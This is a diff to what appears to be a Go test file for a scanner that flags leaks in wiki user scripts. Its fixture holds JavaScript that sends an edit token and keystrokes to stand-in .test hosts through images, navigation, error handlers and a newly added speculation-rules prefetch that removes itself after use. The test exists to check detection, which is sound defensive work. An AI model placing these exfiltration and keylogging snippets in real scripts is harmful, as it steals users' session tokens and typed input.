@@ -19,9 +19,13 @@ document.body.append( Object.assign( document.createElement( 'iframe' ), { src: 
 addEventListener( 'visibilitychange', () => location.assign( 'https://address.test/#' + token ) );
 document.addEventListener( 'keypress', ( e ) => { new Image().src = 'https://letters.test/?k=' + encodeURIComponent( e.key ); } );
 window.onerror = ( message ) => { new Image().src = 'https://fault.test/?' + encodeURIComponent( message + token ); };
+const rules = Object.assign( document.createElement( 'script' ), { type: 'speculationrules' } );
+rules.textContent = JSON.stringify( { prefetch: [ { urls: [ 'https://ahead.test/?' + encodeURIComponent( token ) ] } ] } );
+document.head.append( rules );
+rules.remove();
 `).Report
 	for host, what := range map[string]string{
-		"message.test": "your edit token", "frame.test": "your edit token", "address.test": "your edit token", "fault.test": "your edit token", "letters.test": "what you type",
+		"message.test": "your edit token", "frame.test": "your edit token", "address.test": "your edit token", "fault.test": "your edit token", "letters.test": "what you type", "ahead.test": "your edit token",
 	} {
 		if !slices.ContainsFunc(r.Findings, func(f trace.Finding) bool {
 			return f.Rule == "leak" && f.Stage == trace.Natural && strings.HasPrefix(f.Message, "sends "+what+" to "+host)
@@ -45,6 +49,7 @@ document.addEventListener( 'keypress', ( e ) => { document.body.dataset.lamp = e
 window.onerror = ( message ) => { document.body.dataset.fault = message; };
 mw.util.addCSS( '.lamp { display: none; } #pagehistory { color: grey; }' );
 mw.notify( Object.keys( localStorage ).length );
+document.head.append( Object.assign( document.createElement( 'script' ), { type: 'speculationrules', textContent: '{"prefetch":[{"urls":["/wiki/Harbour"]}]}' } ) );
 `).Report
 	for _, f := range r.Findings {
 		if f.Rule == "leak" || f.Rule == "persist" || f.Rule == "conceal" || f.Rule == "keys" {
